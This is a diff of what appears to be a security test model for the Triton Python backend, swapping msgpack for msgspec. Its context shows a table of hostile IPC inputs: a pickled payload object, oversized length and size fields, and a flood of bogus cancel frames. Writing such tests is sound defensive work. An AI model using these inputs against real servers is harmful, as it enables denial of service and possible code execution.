@@ -14,7 +14,7 @@ import stat
 import threading
 import time
 
-import msgpack
+import msgspec
 import numpy as np
 
 import triton_python_backend_utils as pb_utils
@@ -40,14 +40,14 @@ def _frame(body):
 
 
 def _flood(fd):
-    frame = _frame(msgpack.packb([15, 999_999])) * 256  # CallCancel of no call
+    frame = _frame(msgspec.msgpack.encode([15, 999_999])) * 256  # CallCancel of no call
     while True:
         os.write(fd, frame)
 
 
 ATTACKS = {
     1: lambda fd: os.write(fd, _frame(pickle.dumps((14, _Payload())))),
-    2: lambda fd: os.write(fd, _frame(msgpack.packb(
+    2: lambda fd: os.write(fd, _frame(msgspec.msgpack.encode(
         [14, 424242, "log", None, [1 << 40, [["x", 8, [4], 0, 16]], None], []]))),
     3: lambda fd: os.write(fd, ((4 << 30) - 1).to_bytes(4, "little") + b"\0" * 4096),
     4: lambda fd: threading.Thread(target=_flood, args=(fd,), daemon=True).start(),
